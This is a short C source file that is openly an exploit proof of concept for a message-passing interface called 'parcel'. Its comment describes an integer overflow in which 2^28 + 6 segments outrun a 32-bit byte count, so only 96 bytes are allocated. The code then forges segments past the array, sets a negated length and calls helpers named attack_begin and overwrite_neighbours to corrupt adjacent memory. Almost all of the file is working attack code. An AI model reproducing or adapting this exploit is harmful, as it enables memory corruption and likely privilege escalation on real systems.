// SPDX-License-Identifier: GPL-2.0-only
/*
 * More segments than 32 bits can count the bytes of: 2^28 + 6 of 16 bytes each are 2^32 + 96
 * bytes, and 96 bytes are allocated. The attacker stops the copy when it likes, by a sum of lengths
 * that is more than any number.
 */
#include "neighbours.h"

#define ELEMENTS	(SIZE / sizeof(struct parcel_segment))

static int send_very_many(int file, __u32 box)
{
	struct parcel_segment segments[ELEMENTS + 1] = { { .length = 1 } };
	struct parcel_send send = {
		.handle = box,
		.flags = PARCEL_DONTWAIT,
		.segments = (uintptr_t)segments,
		.nr_segments = (1u << 28) + ELEMENTS,
		.length = SIZE,
	};

	memcpy(&segments[ELEMENTS], forged, TOO_MANY);
	segments[0].length = -segments[ELEMENTS].length;
	return parcel_send_as(file, &send);
}

int main(int argc, char **argv)
{
	attack_begin(argc, argv);
	overwrite_neighbours(send_very_many);
}
